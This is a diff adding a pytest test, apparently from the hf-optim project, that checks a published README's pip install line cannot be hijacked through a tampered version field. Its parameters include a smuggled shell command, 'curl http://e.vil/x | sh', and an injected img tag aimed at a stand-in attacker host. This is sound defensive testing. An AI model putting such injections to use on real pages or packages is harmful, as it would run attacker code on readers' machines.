@@ -58,6 +58,22 @@ def test_the_name_of_a_reading_is_text_on_a_claims_page(tmp_path: Path, capsys: 
     assert "&lt;b>" in page and not [tag for tag in ("![x](", "<b>", "http://") if tag in page.replace("\\]", "")]
 
 
+@pytest.mark.parametrize("version", ["1", '1"; curl http://e.vil/x | sh #', "1\n```\n<img src=http://e.vil/>"])
+def test_a_version_is_no_command_of_a_published_page(
+    tmp_path: Path, version: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """It is what `pip install` is told there."""
+    study = make_study(tmp_path / "study", seeds=2)
+    for file in study.glob("runs/*/record.json"):
+        record = json.loads(file.read_text())
+        record["environment"]["hf_optim"] = version
+        file.write_text(json.dumps(record))
+    assert command(capsys, "publish", study, tmp_path / "public")[0] == 0
+    page = (tmp_path / "public" / "README.md").read_text()
+    pinned = "==1" if version == "1" else ""
+    assert f'```bash\npip install "hf-optim[study]{pinned}"\nhf-optim report .' in page and "<img" not in page
+
+
 THEIRS = """from hf_optim import Optimizer
 class Mine(Optimizer):
     \"\"\"Doc \\x1b[31mred\\x07 \\u202e here.\"\"\"
